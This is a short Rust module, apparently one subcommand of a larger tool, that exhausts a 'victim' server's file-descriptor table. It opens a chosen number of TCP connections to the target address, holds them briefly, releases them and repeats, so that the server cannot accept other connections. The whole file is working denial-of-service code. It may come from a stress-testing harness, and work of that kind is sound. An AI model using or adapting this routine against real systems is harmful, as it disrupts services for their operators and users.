//! Fills the victim's table of descriptors with TCP connections, again and again.

use std::io;
use std::net::TcpStream;
use std::time::Duration;

/// How long the table stays full.
const HOLD: Duration = Duration::from_millis(200);

/// Arguments: the victim's address, connections at a time, how many times. Prints `done`.
pub(super) fn run(arguments: &[String]) -> io::Result<()> {
    let address = super::address(arguments)?;
    let (connections, times) = (super::number(arguments, 1)?, super::number(arguments, 2)?);
    for _ in 0..times {
        let made = (0..connections).map(|_| TcpStream::connect(address));
        let held: io::Result<Vec<_>> = made.collect();
        std::thread::sleep(HOLD);
        drop(held?);
        std::thread::sleep(HOLD / 2);
    }
    println!("done");
    Ok(())
}
